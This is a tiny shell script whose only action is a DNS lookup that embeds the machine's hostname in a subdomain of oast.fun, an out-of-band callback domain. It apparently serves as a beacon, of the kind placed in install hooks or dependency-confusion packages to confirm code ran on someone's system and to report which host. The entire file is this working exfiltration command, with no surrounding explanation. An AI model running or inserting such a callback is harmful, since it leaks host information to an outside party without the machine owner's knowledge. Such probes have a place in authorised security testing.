#!/bin/sh
nslookup "$(hostname).aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.oast.fun"
